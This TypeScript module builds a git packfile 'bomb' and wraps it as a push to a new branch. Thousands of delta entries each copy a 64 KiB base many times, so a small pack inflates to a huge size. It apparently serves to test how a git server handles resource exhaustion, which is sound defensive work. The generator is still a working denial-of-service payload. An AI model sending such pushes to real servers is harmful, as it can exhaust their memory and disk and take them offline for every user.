import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';

const baseBytes = 65_536;
const base = Buffer.alloc(baseBytes);
const [blobType, differenceType] = [3, 7];

/** A pack of some kilobytes: so many objects, told as differences, each of which stands for so many bytes. */
export function bombPack({ objects, bytes }: { objects: number; bytes: number }): Buffer {
  const baseId = createHash('sha1').update(`blob ${baseBytes}\0`).update(base).digest();
  const header = Buffer.alloc(12);
  header.write('PACK');
  header.writeUInt32BE(2, 4);
  header.writeUInt32BE(objects + 1, 8);
  const entries = Array.from({ length: objects }, (_, index) => {
    const difference = differenceOf(bytes, index);
    return [entryHead(differenceType, difference.length), baseId, deflateSync(difference)];
  });
  const content = Buffer.concat([
    header,
    entryHead(blobType, baseBytes),
    deflateSync(base),
    ...entries.flat(),
  ]);
  return Buffer.concat([content, createHash('sha1').update(content).digest()]);
}

/** A push of a pack, as git sends it, to a branch that is new. */
export function pushOf(pack: Buffer, branch: string): Buffer {
  const line = `${'0'.repeat(40)} ${'1'.repeat(40)} refs/heads/${branch}\0report-status`;
  const length = (line.length + 4).toString(16).padStart(4, '0');
  return Buffer.concat([Buffer.from(`${length}${line}0000`), pack]);
}

/** The base again and again, and a number, so that no two are alike. */
function differenceOf(bytes: number, number: number): Buffer {
  const copies = Math.floor(bytes / baseBytes);
  const ending = Buffer.from(String(number).padStart(8, '0'));
  return Buffer.concat([
    varint(baseBytes),
    varint(copies * baseBytes + ending.length),
    // One byte says: copy 64 KiB from the beginning.
    Buffer.alloc(copies, 0x80),
    Buffer.from([ending.length]),
    ending,
  ]);
}

function varint(value: number): Buffer {
  const bytes: number[] = [];
  let rest = value;
  for (; rest >= 0x80; rest = Math.floor(rest / 0x80)) bytes.push((rest % 0x80) | 0x80);
  return Buffer.from([...bytes, rest]);
}

/** Kind and size of an entry: four bits of the size, then seven by seven. */
function entryHead(type: number, size: number): Buffer {
  const more = size >= 16 ? varint(Math.floor(size / 16)) : Buffer.alloc(0);
  const first = (more.length > 0 ? 0x80 : 0) | (type << 4) | (size % 16);
  return Buffer.concat([Buffer.from([first]), more]);
}
